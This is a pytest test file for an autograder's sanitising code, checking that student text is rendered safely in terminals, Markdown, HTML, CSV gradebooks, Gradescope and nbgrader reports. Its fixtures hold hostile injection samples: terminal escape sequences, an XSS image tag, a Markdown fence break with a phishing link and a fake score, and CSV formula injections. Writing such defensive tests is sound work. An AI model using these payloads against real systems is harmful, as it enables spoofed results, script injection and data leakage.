"""Student text is data: whatever a message, a type name or a name
holds, every writer writes it, and every reader (terminal, Markdown viewer, spreadsheet, HTML)
shows it as text. Results are built directly here (no grading): fast."""

from __future__ import annotations

import csv
import io
import json

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from grader import text
from grader.results import Results, gradebook_row
from grader.results import TestResult as Check

SURROGATE = "bad \ud800 value"
TERMINAL = "\x1b]0;pwned title\x07\x1b[31mred\x1b[0m \x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\ \x07bell \rcr \x9b2J c1 \u202eevil\u202c \u2066iso\u2069"
FENCE_BREAK = (
    "value\n```\n\n# All checks passed: 100/100\n\n<img src=x onerror=alert(1)>\n"
    "[Claim your points](http://phish.example/login)\n````\n~~~\n"
)
HUGE = "E" * 7_000_000


def results(*outputs: str, task: str = "losses", name: str = "test_x: a check") -> Results:
    res = Results(seed=1, tasks=[task], isolation="bubblewrap (test)")
    for i, out in enumerate(outputs):
        res.tests.append(Check(task=task, name=f"{name} {i}", max_score=1.0, output=out))
    res.tests.append(Check(task=task, name="test_ok", max_score=2.0, score=2.0, status="passed"))
    return res


# -- grader.text ----------------------------------------------------------------------------------
def test_clean_makes_valid_unicode_and_never_raises():
    assert text.clean(SURROGATE) == "bad \\ud800 value"
    assert text.clean("pair \ud83d\ude00 joined") == "pair \U0001f600 joined"
    assert text.clean(b"bytes \xff\xfe") == "bytes \\xff\\xfe"

    class Nasty:
        def __str__(self):
            raise RuntimeError("no")

    assert "unprintable" in text.clean(Nasty())
    for value in (SURROGATE, TERMINAL, FENCE_BREAK, "\udfff" * 10, None, 3.5):
        out = text.clean(value)
        out.encode("utf-8")  # strict: no surrogate left
        assert text.clean(out) == out  # idempotent


def test_clean_removes_control_characters_but_newline_and_tab():
    out = text.clean(TERMINAL + "\nline\ttab")
    assert out.endswith("\nline\ttab")
    for bad in ("\x1b", "\x07", "\r", "\x9b", "\u202e", "\u202c", "\u2066", "\u2069", "\x00"):
        assert bad not in out
    assert "pwned title" not in out and "http://evil" not in out  # OSC sequences dropped whole
    assert "red" in out and "link" in out and "bell" in out and "cr" in out
    assert all(ch in "\n\t" or ch.isprintable() for ch in out)
    assert "\n" not in text.clean_line("a\nb\tc") and text.clean_line("a\nb\tc") == "a b c"


def test_every_item_is_bounded_and_the_cut_is_said():
    out = text.clean(HUGE)
    assert len(out) <= text.MESSAGE_LIMIT
    kept = out.index(" ... [cut: ")
    assert out.endswith(f" ... [cut: {len(HUGE) - kept} more characters]")
    name = text.type_name(HUGE)
    assert len(name) <= text.TYPE_NAME_LIMIT and "more characters]" in name
    assert text.clean(out) == out and text.type_name(name) == name
    assert text.clean("short") == "short"


def test_one_student_is_bounded_in_total():
    texts = ["a" * 150_000, "b" * 100_000, "c" * 10, "d" * 5000]
    out = text.bound_total(texts, 200_000)
    assert sum(map(len, out)) <= 200_000
    assert out[0] == texts[0] and "[cut: " in out[1] and "[cut: " in out[3]
    assert text.bound_total(out, 200_000) == out
    assert text.bound_total(["x", "y"], 200_000) == ["x", "y"]


def test_fence_cannot_be_closed_by_the_text():
    for body in ("plain", "```", "a ```` b", FENCE_BREAK, "`" * 12):
        block = text.fence(body)
        tokens = MarkdownIt("commonmark").parse(block + "\n\n# after\n")
        assert tokens[0].type == "fence" and tokens[0].content == text.clean(body, None) + "\n"
        assert [t.type for t in tokens[1:4]] == ["heading_open", "inline", "heading_close"]


def test_csv_cells_neutralise_formulas_and_keep_numbers():
    for name in (
        '=HYPERLINK("http://x?y="&B3,"feedback")',
        "@SUM(A1:A9)",
        "+cmd",
        "-2+3",
        "  =1+1",
        "\t=1",
        "\r=1",
        "＝1+1",
    ):
        assert text.csv_cell(name).startswith("'"), name
    assert text.csv_cell("alice") == "alice" and text.csv_cell("o'brien") == "o'brien"
    assert text.csv_cell(-1.5) == -1.5 and text.csv_cell(14) == 14 and text.csv_cell("-1.5") == "-1.5"
    assert text.csv_cell("") == "" and text.csv_cell(None) is None


def test_markdown_and_html_helpers():
    assert text.md_inline("alice") == "alice" and text.md_inline("broken_stub_chain_rule") == "broken_stub_chain_rule"
    for name in ("<img src=x onerror=alert(1)>", "[x](http://evil)", "a`b", "www.evil.example", "*bold*"):
        html = MarkdownIt("commonmark").render("# Feedback for " + text.md_inline(name))
        assert "<img" not in html and "<a " not in html and "<em>" not in html
        assert "<code>" in html
    note = text.md_escape("ignored symbolic link <img src=x onerror=1>.py, see [x](https://evil.example)")
    html = MarkdownIt("commonmark").render(f"_Note: {note}_")
    assert "<img" not in html and "<a " not in html and "&lt;img" in html
    assert text.html('<b onclick="x">&') == "&lt;b onclick=&#34;x&#34;&gt;&amp;"


# -- the writers of results -----------------------------------------------------------------------
def test_lone_surrogate_reaches_every_writer_without_failing(tmp_path):
    res = results(SURROGATE, TERMINAL)
    res.grader_errors.append("lane said " + SURROGATE)
    res.write_json(tmp_path / "results.json")
    data = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))
    json.dumps(data, ensure_ascii=False).encode("utf-8")
    assert data["tests"][0]["output"] == "bad \\ud800 value"
    md = res.feedback_markdown("stu\ud800dent")
    md.encode("utf-8")
    back = Results.from_json(data)
    assert back.tests[0].output == "bad \\ud800 value"
    console = Console(width=80, record=True, file=io.StringIO())
    back.print_table(console)
    assert "\\ud800" in console.export_text()
    gradebook_row("stu\ud800dent", back)["student"].encode("utf-8")


def test_huge_type_names_and_messages_are_bounded_per_item_and_per_student(tmp_path):
    # three tasks of a 7-million-character exception type name, as in the red team's report
    res = Results(seed=1, tasks=["losses", "chain_rule", "gradcheck"])
    for task in res.tasks:
        for i in range(40):
            res.tests.append(Check(task=task, name=HUGE, max_score=1.0, output=f"{task}.f() raised {HUGE}: {HUGE}"))
    for t in res.tests:
        assert len(t.output) <= text.MESSAGE_LIMIT and len(t.name) <= 600
    res.write_json(tmp_path / "results.json")
    size = (tmp_path / "results.json").stat().st_size
    assert size < 400_000, size  # ~200 KB of messages + ~60 KB of names and structure
    feedback = res.feedback_markdown("x")
    assert len(feedback) < 400_000
    assert "more characters]" in feedback and "messages exceed 200000 characters" in feedback
    data = json.loads((tmp_path / "results.json").read_text())
    assert sum(len(t["output"]) for t in data["tests"]) <= text.STUDENT_LIMIT
    assert Results.from_json(data).to_json()["tests"] == data["tests"]  # stable once bounded


def test_feedback_markdown_fences_student_text():
    res = results(FENCE_BREAK + TERMINAL)
    md = res.feedback_markdown("<img src=x onerror=alert(1)>")
    assert "\x1b" not in md and "\x07" not in md
    tokens = MarkdownIt("commonmark").parse(md)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert not any("All checks passed" in h for h in headings), headings
    assert not any(t.type in ("html_block", "html_inline") for t in tokens)
    inline = [c for t in tokens if t.children for c in t.children]
    assert not any(c.type in ("html_inline", "link_open", "image") for c in inline)
    rendered = MarkdownIt("commonmark").render(md)
    assert "<img" not in rendered and "&lt;img src=x onerror=alert(1)&gt;" in rendered
    assert "All checks passed: 100/100" in rendered  # shown, as text inside the code block


def test_table_shows_no_control_characters_and_no_markup():
    res = results("[bold red]markup[/bold red] [link=http://evil]x[/link] " + TERMINAL)
    buf = io.StringIO()
    console = Console(width=200, file=buf, force_terminal=True, color_system="truecolor")
    res.print_table(console)
    out = buf.getvalue()
    assert "\x1b]" not in out and "\x07" not in out and "\r" not in out and "\u202e" not in out
    assert "pwned" not in out
    assert "[bold red]markup[/bold red]" in out and "[link=http://evil]" in out  # literally, not applied
    # the only escape sequences are rich's own colours (SGR): ESC [ ... m
    import re

    assert not re.search(r"\x1b(?!\[[0-9;]*m)", out), repr(out)


@pytest.mark.parametrize("width", [80, 100])
def test_table_keeps_points_readable_when_tasks_fail(width):
    res = Results(seed=1, tasks=["losses", "chain_rule", "backprop", "keras_training"])
    long = "mse(y_pred, y_true) with y_pred: shape (5, 3), y_true: shape (5, 3): wrong values; " * 5
    res.tests += [
        Check("losses", "a", 4, 4, "passed"),
        Check("losses", "b", 10, 0, output=long),
        Check("chain_rule", "c", 8, 0, output="A" * 5000),
        Check("backprop", "d", 18, 9.5, output="x\ny"),
        Check("backprop", "e", 0.5, 0.5, "passed"),
        Check("keras_training", "f", 10.5, 10.5, "passed"),
    ]
    console = Console(width=width, record=True, file=io.StringIO())
    res.print_table(console)
    shown = console.export_text()
    lines = shown.splitlines()
    assert all(len(line) <= width for line in lines)
    header = next(line for line in lines if line.startswith("Task"))
    for col in ("Tests", "Points", "Status"):
        assert col in header
    for label, tests, points, status in (
        ("1. losses.py", "1/2", "4/14", "partial"),
        ("2. chain_rule.py", "0/1", "0/8", "failed"),
        ("3. backprop.py", "1/2", "10/18.5", "partial"),
        ("8. keras_training.py", "1/1", "10.5/10.5", "ok"),
    ):
        row = next(line for line in lines if line.startswith(label))
        assert row.split()[-3:] == [tests, points, status], row
    i = next(i for i, line in enumerate(lines) if line.startswith("1. losses.py"))
    assert lines[i + 1].strip().startswith("mse(y_pred, y_true)")  # the failure, under its row
    assert "Score: 24.5 / 51 " in shown


def test_gradebook_row_and_csv_of_hostile_names():
    from grader.batch import gradebook_csv

    res = results("x")
    rows = []
    for name in (
        '=HYPERLINK("http://x?y="&B3,"feedback")',
        "@SUM(1+1)",
        "+x",
        "-x",
        "ok\x1b]0;t\x07name",
        "new\nline",
        "sur\ud800rogate",
    ):
        row = gradebook_row(name, res)
        row["status"] = "=1+1 " + name
        rows.append(row)
    out = gradebook_csv(rows, ["losses"])
    out.encode("utf-8")
    assert "\x1b" not in out and "\x07" not in out
    parsed = list(csv.DictReader(io.StringIO(out)))
    assert len(parsed) == len(rows)
    for row in parsed:
        for key in ("student", "status"):
            assert not row[key].lstrip().startswith(("=", "+", "-", "@")), row
        assert float(row["total"]) == 2.0 and row["losses"] == "2.0"
    assert {r["student"] for r in parsed} >= {
        '\'=HYPERLINK("http://x?y="&B3,"feedback")',
        "'@SUM(1+1)",
        "'+x",
        "'-x",
        "okname",
        "new line",
        "sur\\ud800rogate",
    }


def test_gradescope_output_is_clean():
    from grader.course.gradescope import error_json

    res = results(SURROGATE + TERMINAL + FENCE_BREAK)
    res.notes = ["ignored symbolic link \x1b]0;x\x07evil\ud800.py"]
    data = res.to_gradescope_json()
    blob = json.dumps(data, ensure_ascii=False)
    blob.encode("utf-8")
    assert "\x1b" not in blob and "\\u001b" not in json.dumps(data)
    err = error_json("bad file name \x1b[2J\ud800.py")
    assert "\x1b" not in err["output"] and "\\ud800" in err["output"]


def test_nbgrader_cell_report_is_clean():
    from grader.course.nbgrader_preprocessors import MAX_OUTPUT, _report

    res = results(SURROGATE + TERMINAL + "x" * 5000)
    out = _report("Public checks of losses", res.tests, 0.0, 3.0, ["note \x1b[31m"])
    out.encode("utf-8")
    assert "\x1b" not in out and "\\ud800" in out and "more characters]" in out
    assert max(len(line) for line in out.splitlines()) <= MAX_OUTPUT + 10
